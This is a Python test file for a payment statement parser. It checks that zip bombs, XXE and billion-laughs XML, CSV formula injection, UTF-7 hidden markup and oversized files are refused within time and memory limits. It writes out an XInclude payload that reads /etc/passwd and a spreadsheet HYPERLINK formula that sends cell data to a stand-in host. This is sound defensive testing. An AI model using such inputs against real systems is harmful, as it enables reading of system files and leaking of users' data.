"""Files made to harm: refused or held fast, in little memory, with a sentence and without a word of another file."""

import gzip
import time
import tracemalloc
from pathlib import Path

import pytest

from repaid.payments.formats import StatementFile, read_statement
from repaid.payments.formats.recognise import BYTES_MAX
from repaid.payments.formats.xlsx.tests.books import book, sheet

from .shared import SHARED, shared

SECONDS_MAX = 1.0
BYTES_HELD_MAX = 50_000_000
FOLDER = SHARED / "hostile"
FILES = sorted(path.name for path in FOLDER.iterdir()) if FOLDER.exists() else []
NAMESPACE = "urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"


def read(content: bytes) -> StatementFile:
    tracemalloc.start()
    begun = time.process_time()
    file = read_statement("upload", content, currency="PLN")
    seconds, held = time.process_time() - begun, tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert seconds < SECONDS_MAX
    assert held < BYTES_HELD_MAX
    return file


def codes(file: StatementFile) -> list[str]:
    return [finding.code for finding in file.findings]


@pytest.mark.parametrize("name", FILES)
def test_no_hostile_file_is_read_in_silence_or_tells_of_another_file(name: str) -> None:
    file = read(shared(f"hostile/{name}").read_bytes())
    assert file.findings
    said = " ".join(map(str, file.findings)) + repr(file.lines)
    assert Path("/etc/passwd").read_text()[:20] not in said


@pytest.mark.parametrize(
    ("name", "code"),
    [
        ("bomb_10mb_zeros.zip", "zip_refused"),
        ("bomb_nested.zip", "zip_refused"),
        ("zip_slip.zip", "zip_refused"),
        ("bomb_sheet.xlsx", "zip_refused"),
        ("xxe_file.xlsx", "has_doctype"),
        ("lol.xlsx", "has_doctype"),
        ("camt_billion_laughs.xml", "has_doctype"),
        ("camt_xxe_file.xml", "has_doctype"),
        ("camt_xxe_param_oob.xml", "has_doctype"),
    ],
)
def test_bombs_and_entities_are_refused_whole(name: str, code: str) -> None:
    file = read(shared(f"hostile/{name}").read_bytes())
    assert codes(file) == [code]
    assert file.lines == ()


def test_an_amount_of_forty_digits_in_an_open_statement_rejects_the_statement() -> None:
    file = read(shared("hostile/mt940_long_line_no_close.sta").read_bytes())
    assert file.lines == ()
    assert "statement_left_out" in codes(file)


def test_a_wrong_closing_balance_holds_the_statement_with_its_figures() -> None:
    file = read(shared("hostile/mt940_balance_mismatch.sta").read_bytes())
    assert [str(finding) for finding in file.findings] == [
        "Line 7: the balances do not add up. Opening 100.00 EUR and lines 10.00 EUR make 110.00 EUR, "
        "the statement says 999.00 EUR."
    ]
    assert [line.amount_minor for line in file.lines] == [1000]


def test_formulas_stay_texts_and_look_alikes_survive() -> None:
    file = read(shared("hostile/csv_injection.csv").read_bytes())
    names = [line.counterparty for line in file.lines]
    assert len(names) == 14
    assert names[0] == '=HYPERLINK("http://x.test?"&A1,"click")'
    assert names[-2:] == ["-100.00", "+48 600 100 200"]


def test_nul_bytes_and_mixed_encodings_are_named_by_line() -> None:
    file = read(shared("hostile/csv_nul_utf16_mixed.csv").read_bytes())
    named = {(finding.code, finding.facts.get("line")) for finding in file.findings}
    assert {("nul_byte", 2), ("nul_byte", 5), ("mixed_encodings", 4)} <= named
    assert [line.counterparty for line in file.lines] == ["ŁÓDŹ", "Łódź"]


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(gzip.compress(bytes(20_000_000)), id="gzip of zeros"),
        pytest.param(b"PK\x03\x04 but no zip", id="zip header alone"),
        pytest.param(b"%PDF-1.4\n", id="pdf"),
        pytest.param(bytes(1_000_000), id="zeros"),
        pytest.param(b":20:" + b"A" * 1_000_000, id="one endless field"),
    ],
)
def test_what_no_reader_knows_is_refused(content: bytes) -> None:
    assert read(content).format == "unknown"


def test_size_is_looked_at_first() -> None:
    assert codes(read_statement("big", b" " * BYTES_MAX + b"x" * 2)) == ["file_too_big"]


@pytest.mark.parametrize("content", [b"", b" \r\n\t"])
def test_an_empty_file_says_so(content: bytes) -> None:
    assert codes(read(content)) == ["empty_file"]


def test_a_doctype_is_found_in_every_encoding() -> None:
    text = f'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE d [<!ENTITY x "y">]><Document xmlns="{NAMESPACE}"/>'
    assert codes(read(text.encode("utf-16"))) == ["has_doctype"]


def test_an_encoding_that_hides_markup_is_refused() -> None:
    assert codes(read(b'<?xml version="1.0" encoding="UTF-7"?>+ADw-Document/>')) == ["broken_xml"]


def test_an_include_is_passed_over() -> None:
    include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    content = f'<Document xmlns="{NAMESPACE}"><BkToCstmrStmt><Stmt><Id>{include}</Id></Stmt></BkToCstmrStmt></Document>'
    assert read(content.encode()).statements[0].number == ""


@pytest.mark.parametrize("inner", ["<a>" * 100_000, "<a>" + "x" * 1_000_000])
def test_xml_deeper_or_longer_than_a_statement_is_stopped(inner: str) -> None:
    assert codes(read(f'<Document xmlns="{NAMESPACE}">{inner}'.encode())) == ["too_much_xml"]


def test_two_cells_far_apart_do_not_lay_out_what_is_between() -> None:
    rows = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    assert codes(read(book(sheet(rows)))) == ["too_much_xml"]


def test_a_directory_that_lies_about_sizes_is_found_out() -> None:
    content = bytearray(book(sheet("<row><c><v>1</v></c></row>" * 200_000)))
    entry = content.rfind(b"PK\x01\x02")
    content[entry + 24 : entry + 28] = (1000).to_bytes(4, "little")
    assert codes(read(bytes(content))) == ["zip_refused"]
